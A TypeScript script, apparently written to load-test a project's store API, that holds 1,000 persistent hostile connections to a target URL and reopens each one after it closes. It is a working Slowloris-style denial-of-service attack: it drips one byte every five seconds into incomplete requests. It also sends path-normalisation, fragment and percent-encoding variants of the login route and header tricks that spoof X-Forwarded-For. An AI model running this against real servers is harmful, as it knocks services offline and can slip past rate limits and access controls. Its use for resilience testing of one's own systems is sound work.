import { connect } from 'node:net'
import { login } from '@nifty/api/auth/public'
import { getMarket, setPrice } from '@nifty/api/catalog/public'
import { endpointUrl } from '@nifty/api/endpoint'

/** Keeps 1,000 hostile connections to a store until it is ended; one that is closed is opened again after a second. */
const CONNECTIONS = 1_000
const REOPEN_AFTER_MS = 1_000
const BYTE_EVERY_MS = 5_000

const [url, localAddress] = process.argv.slice(2) as [string, string]
const { hostname, port } = new URL(url)
const price = endpointUrl(setPrice, { params: { contract: 'a', identifier: 'b' } })
const market = endpointUrl(getMarket)

const head = (method: string, target: string, ...headers: string[]) =>
  [`${method} ${target} HTTP/1.1`, 'Host: store', ...headers, '', ''].join('\r\n')
const json = 'Content-Type: application/json'
const length = 'Content-Length: 1000'

/** What a connection sends at first; afterwards one byte at a time. */
const kinds = [
  `${head('PUT', price, json, length)}{`,
  `${head('POST', login.path, json, length)}{`,
  `${head('POST', login.path, json, 'Transfer-Encoding: chunked')}3e8\r\n{`,
  `GET ${market} HTTP/1.1\r\nHost: store\r\nX-Slow: `,
  head('POST', `http://store${login.path}`, 'Content-Length: 0'),
  head('POST', `${login.path}#a`, 'Content-Length: 0'),
  head('POST', login.path.replace('/login', '/./login'), 'Content-Length: 0'),
  head('POST', login.path.replace('/login', '/%2e/login'), 'Content-Length: 0'),
  head('GET', market, 'Connection: keep-alive, x-forwarded-for', 'X-Forwarded-For: 192.0.2.7'),
  'no request\r\n\r\n',
]

function attack(kind: number) {
  const socket = connect({ host: hostname, port: Number(port), localAddress })
  socket.on('error', () => {})
  socket.on('connect', () => socket.write(kinds[kind % kinds.length]!))
  socket.resume()
  const dripping = setInterval(() => socket.write('a'), BYTE_EVERY_MS)
  socket.on('close', () => {
    clearInterval(dripping)
    setTimeout(attack, REOPEN_AFTER_MS, kind)
  })
}

for (let kind = 0; kind < CONNECTIONS; kind++) attack(kind)
process.stdout.write('attacking\n')
